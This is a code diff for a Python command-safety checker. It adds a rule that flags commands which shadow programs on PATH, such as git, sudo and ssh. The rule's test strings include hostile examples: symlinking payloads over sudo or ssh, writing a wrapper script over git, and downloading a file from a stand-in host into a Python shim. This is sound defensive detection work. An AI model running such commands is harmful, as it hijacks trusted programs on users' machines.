@@ -6,7 +6,7 @@ from __future__ import annotations
 
 from collections.abc import Callable, Iterator
 
-from redline.decision import Severity
+from redline.decision import Severity, Span
 from redline.rules import argv, targets
 from redline.rules.model import InvocationTest, Rule, rule
 from redline.rules.path_shims import shim_written
@@ -215,11 +215,14 @@ def _families(inv: Invocation, moved: bool) -> Iterator[str]:
             yield family
 
 
-def writes_family(inv: Invocation, analysis: Analysis, family: str) -> bool:
-    """`inv` writes a file of `family` (one reading of the analysis for all)."""
-    last = _LAST
-    found = last[1] if last[0] is analysis else _written_families(analysis)
-    return bool(found) and family in found.get(inv.index, ())
+def _shims(analysis: Analysis) -> list[Span]:
+    """Where a program on PATH is shadowed: read once per command, not per
+    invocation (any program's redirect can write a shim)."""
+    found = _LAST[1] if _LAST[0] is analysis else _written_families(analysis)
+    if not found:
+        return []  # most commands write nothing sensitive
+    invocations = analysis.invocations
+    return [invocations[k].span for k, families in found.items() if "path-shim" in families]
 
 
 def _writes_family(family: str) -> InvocationTest:
@@ -444,5 +447,36 @@ SENSITIVE_RULES: tuple[Rule, ...] = (
         ("crontab -l", "crontab -r", "echo crontab x"),
         test=_crontab,
         programs=("crontab",),
+    ),
+    rule(
+        "sensitive.path-shim",
+        "sensitive",
+        S,
+        "link a program on PATH (`git`, `sudo`, `ssh`...) to another file: it runs in the "
+        "program's place later",
+        "run the other program by its own name or path; link only a program to its own name",
+        scan=_shims,
+        must_match=(
+            "ln -sf /tmp/x ~/.local/bin/git",
+            "ln -s ./evil /usr/local/bin/sudo",
+            "ln -sfn /tmp/payload ~/bin/ssh",
+            "cp /tmp/x ~/.local/bin/git",
+            "install -m755 /tmp/x ~/.local/bin/sudo",
+            "printf '#!/bin/sh\\nexec /tmp/x \"$@\"\\n' > ~/.local/bin/git",
+            "ln -st ~/.local/bin /tmp/evil/git",
+            "cp /tmp/x ~/.cargo/bin/cargo",
+            "curl -o ~/.pyenv/shims/python https://x.example.com/p",
+            "busybox --install -s ~/.local/bin",
+        ),
+        must_not_match=(
+            "ln -sf /usr/bin/python3 ~/.local/bin/python",
+            "ln -s ../lib/tool ./bin/tool",
+            "ln -sf ~/src/mytool/target/release/mytool ~/.local/bin/mytool",
+            "ln -s /opt/node-v20/bin/node /usr/local/bin/node",
+            "cp build/mytool ~/.local/bin/mytool",
+            "install -m755 target/release/rg2 ~/.local/bin/",
+            "cp ~/.local/bin/git /tmp/git.bak",
+            "busybox ls",
+        ),
     ),
 )
